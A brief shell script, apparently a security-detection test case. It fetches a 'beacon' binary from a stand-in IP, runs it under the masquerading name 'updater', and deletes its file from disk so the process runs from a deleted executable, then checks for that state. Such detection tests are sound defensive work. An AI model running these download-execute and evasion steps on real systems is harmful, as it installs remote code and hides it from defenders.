#!/bin/sh
. /opt/case/case.sh

cp /bin/sleep /tmp/updater; curl -s -o /tmp/.keep http://203.0.113.10/programs/beacon && chmod 755 /tmp/.keep
cp /tmp/.keep /var/tmp/updater; (exec /var/tmp/updater 203.0.113.10 >/dev/null 2>&1) & p=$!
sleep 0.5; mv -f /tmp/updater /var/tmp/updater; rm -f /tmp/.keep
readlink /proc/$p/exe | grep -q deleted; kill $p
took_place
